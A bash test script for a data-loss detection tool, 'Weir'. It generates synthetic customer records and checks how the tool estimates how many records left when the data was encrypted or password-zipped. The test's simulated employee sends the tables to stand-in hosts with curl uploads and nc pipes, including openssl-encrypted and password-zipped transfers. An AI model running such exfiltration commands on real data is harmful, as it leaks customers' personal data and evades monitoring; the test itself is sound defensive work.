#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-only
#
# How many customers it was when nobody can read what left, nor saw it looked up. Exported tables are
# packed with a password and encrypted; what Weir counted exactly before, of data of the same classes,
# says what bytes a record takes, and so about how many left.
# shellcheck source=tests/support/fixture.sh
. "$(dirname "$0")/../support/fixture.sh"
set_the_stage

cloud_serves pan.test
for host in mail.test im.test meet.test shop.test; do store_serves "$host" 9000; done
install -d -o "$employee_uid" -g "$employee_uid" "$home/crm-exports"
"$python" - "$home/crm-exports" <<'END'
import csv, random, sys
draw = random.Random(7)
def row():
    digits = lambda n: "".join(draw.choice("0123456789") for _ in range(n))
    return ["P20" + digits(8), "139" + digits(8), "%s Road, Shanghai" % digits(4),
            draw.choice(["life", "health", "annuity"]), draw.randrange(1000, 90000)]
for name, n in (("a", 20), ("b", 30), ("c", 40), ("all", 400)):
    with open("%s/%s.csv" % (sys.argv[1], name), "w") as table:
        csv.writer(table).writerows(row() for _ in range(n))
END
chmod 0644 "$home"/crm-exports/*.csv
weir_watches

# incident_to RECIPIENT EXPRESSION: over i, the incident with that recipient.
incident_to() {
	incidents_say "[True for i in d if (i['sinks'][0]['name'] or i['sinks'][0]['address']) == '$1' if $2] == [True]"
}

say "three tables, as they are"
alice_does <<'END'
curl -sS -F file=@crm-exports/a.csv https://pan.test/upload
nc -N mail.test 9000 <crm-exports/b.csv
nc -N im.test 9000 <crm-exports/c.csv
END
soon "twenty records exactly" incident_to pan.test "i['records'] == {'value': 20, 'certainty': 'exact'}"
soon "thirty records exactly" incident_to mail.test "i['records'] == {'value': 30, 'certainty': 'exact'}"
soon "forty records exactly" incident_to im.test "i['records'] == {'value': 40, 'certainty': 'exact'}"

say "400 customers, encrypted in a pipe"
alice_does <<'END'
openssl enc -aes-256-cbc -pbkdf2 -pass pass:secret -in crm-exports/all.csv | nc -N meet.test 9000
END
soon "nobody can count them: some 400, by their bytes" \
	incident_to 10.77.0.50 "i['records']['certainty'] == 'estimated' and 320 <= i['records']['value'] <= 480"
soon "as three exact counts say what a record takes" \
	incident_to 10.77.0.50 "i['by_bytes']['samples'] == 3 and i['by_bytes']['is_answer'] and 45 <= i['by_bytes']['bytes_per_record'] <= 75"

say "the same, packed with a password, to somebody else"
alice_does <<'END'
cd crm-exports
zip -q -P secret ../all.zip all.csv
nc -N shop.test 9000 <../all.zip
END
soon "at least so many: it was packed, and what was counted was not" \
	incident_to shop.test "i['records']['certainty'] == 'estimated' and 40 <= i['records']['value'] <= 440 and i['by_bytes']['at_least']"

number=$("$python" -c 'import json, sys
print(*(i["id"] for i in json.load(open(sys.argv[1])) if i["sinks"][0]["name"] == "shop.test"))' "$work/incidents.json")
"$weir" show "$number" --data "$data" >"$work/show.txt" 2>&1
"$weir" show "$number" --lang zh --data "$data" >"$work/show-zh.txt" 2>&1
then_it "the paragraph says which estimate it is" \
	bash -c 'tr -s "\n " " " <"$0" | grep -q "exact counts of the same classes before it; those were not packed and this was"' \
	"$work/show.txt"
then_it "and in Chinese" \
	bash -c 'tr -d "\n " <"$0" | grep -q "取此前3次同类数据精确清点的中位数；那些数据未经压缩"' \
	"$work/show-zh.txt"
then_every_stage_accounts_for_all_it_took

weir_stops
then_it "weir has stopped cleanly" test "$weir_status" -eq 0
then_it "no number, name or address of a customer is in anything that Weir wrote" \
	weir_wrote_nothing_of "$home/crm-exports/all.csv"
